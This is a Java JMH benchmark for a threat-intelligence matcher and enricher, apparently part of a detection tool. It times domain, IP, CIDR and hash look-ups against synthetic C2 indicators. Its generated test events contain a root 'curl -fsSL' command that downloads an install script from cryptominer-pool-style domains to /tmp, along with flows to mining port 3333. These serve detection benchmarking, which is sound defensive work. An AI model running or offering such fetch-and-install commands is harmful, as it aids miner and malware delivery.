package dev.minewarden.bench;

import dev.minewarden.core.event.Event;
import dev.minewarden.core.event.LogSource;
import dev.minewarden.core.intel.Ageing;
import dev.minewarden.core.intel.Indicator;
import dev.minewarden.core.intel.IndicatorType;
import dev.minewarden.core.intel.IntelEnricher;
import dev.minewarden.core.intel.IntelMatcher;
import dev.minewarden.core.intel.IntelStore;
import dev.minewarden.core.intel.PassiveDns;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.concurrent.TimeUnit;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Threads;
import org.openjdk.jmh.annotations.Warmup;

/**
 * Intel enrichment at hunt speed, one thread: single look-ups against the full bundled intel set
 * (domains by suffix, IPs exact and by CIDR, hashes), half hits and half misses, and whole-event
 * enrichment of process and flow events. Run with {@code java -jar bench/target/benchmarks.jar IntelBench}.
 */
@State(Scope.Thread)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Warmup(iterations = 3, time = 2)
@Measurement(iterations = 5, time = 2)
@Fork(1)
@Threads(1)
public class IntelBench {
  static final int N = 1024;

  String[] domains;
  String[] ips;
  String[] hashes;
  Event[] events;
  IntelMatcher matcher;
  IntelEnricher enricher;

  /** Loads the bundled set plus 10,000 synthetic C2 addresses and networks, and builds inputs. */
  @Setup
  public void setup() {
    IntelStore.Builder b = IntelStore.bundled().toBuilder();
    SplittableRandom r = new SplittableRandom(7);
    for (int i = 0; i < 10_000; i++) {
      b.add(new Indicator(IndicatorType.IP, ip(r), "Bench", "c2", "", List.of("bench"),
          Indicator.UNBOUNDED_START, Indicator.UNBOUNDED_END));
    }
    for (int i = 0; i < 1_000; i++) {
      b.add(new Indicator(IndicatorType.CIDR, (r.nextInt(223) + 1) + "." + r.nextInt(256) + "." + r.nextInt(256) + ".0/24",
          "Bench", "c2", "", List.of("bench"), Indicator.UNBOUNDED_START, Indicator.UNBOUNDED_END));
    }
    IntelStore store = b.build();
    matcher = store.matcher(Ageing.defaults());
    enricher = new IntelEnricher(matcher, new PassiveDns());
    List<String> poolDomains = new ArrayList<>();
    List<String> known = new ArrayList<>();
    List<String> hashList = new ArrayList<>();
    for (Indicator i : store.indicators()) {
      switch (i.type()) {
        case DOMAIN -> poolDomains.add(i.value());
        case IP -> known.add(i.value());
        case HASH -> hashList.add(i.value());
        default -> { }
      }
    }
    domains = new String[N];
    ips = new String[N];
    hashes = new String[N];
    for (int i = 0; i < N; i++) {
      domains[i] = i % 2 == 0 ? "xmr-" + i + "." + poolDomains.get(r.nextInt(poolDomains.size()))
          : "api-" + i + ".service" + r.nextInt(5000) + ".example.com";
      ips[i] = i % 2 == 0 ? known.get(r.nextInt(known.size())) : ip(r);
      hashes[i] = i % 2 == 0 ? hashList.get(r.nextInt(hashList.size())) : hex(r, 64);
    }
    events = new Event[N];
    for (int i = 0; i < N; i++) {
      events[i] = i % 2 == 0
          ? Event.builder(LogSource.of("linux", "process_creation", "auditd")).time(1_795_485_850_000L + i)
              .host("web-" + (i % 16)).field("Image", "/usr/bin/curl")
              .field("CommandLine", "curl -fsSL https://" + domains[i] + "/install.sh -o /tmp/i" + i + ".sh")
              .field("User", "root").build()
          : Event.builder(LogSource.of("aws", "network_connection", "vpcflowlogs")).time(1_795_485_850_000L + i)
              .host("10.0.1." + (i % 200)).field("SourceIp", "10.0.1." + (i % 200))
              .field("DestinationIp", ips[i]).field("DestinationPort", (long) (i % 3 == 0 ? 3333 : 443)).build();
    }
  }

  /** Domain look-ups by registrable-domain suffix. */
  @Benchmark
  @OperationsPerInvocation(N)
  public int domainLookup() {
    int hits = 0;
    for (String d : domains) {
      hits += matcher.domain(d).size();
    }
    return hits;
  }

  /** IP look-ups: exact IPv4, then the CIDR trie. */
  @Benchmark
  @OperationsPerInvocation(N)
  public int ipLookup() {
    int hits = 0;
    for (String ip : ips) {
      hits += matcher.ip(ip).size();
    }
    return hits;
  }

  /** Hash look-ups. */
  @Benchmark
  @OperationsPerInvocation(N)
  public int hashLookup() {
    int hits = 0;
    for (String h : hashes) {
      hits += matcher.hash(h).size();
    }
    return hits;
  }

  /** A mix of the three look-ups, one third each. */
  @Benchmark
  @OperationsPerInvocation(N)
  public int mixedLookup() {
    int hits = 0;
    for (int i = 0; i < N; i++) {
      switch (i % 3) {
        case 0 -> hits += matcher.domain(domains[i]).size();
        case 1 -> hits += matcher.ip(ips[i]).size();
        default -> hits += matcher.hash(hashes[i]).size();
      }
    }
    return hits;
  }

  /** Whole events through the enricher (every field, the command-line automaton, passive DNS). */
  @Benchmark
  @OperationsPerInvocation(N)
  public int enrichEvents() {
    int n = 0;
    for (Event e : events) {
      n += enricher.apply(e).fields().size();
    }
    return n;
  }

  private static String ip(SplittableRandom r) {
    return (r.nextInt(223) + 1) + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + r.nextInt(256);
  }

  private static String hex(SplittableRandom r, int len) {
    StringBuilder b = new StringBuilder(len);
    for (int i = 0; i < len; i++) {
      b.append(Character.forDigit(r.nextInt(16), 16));
    }
    return b.toString();
  }
}
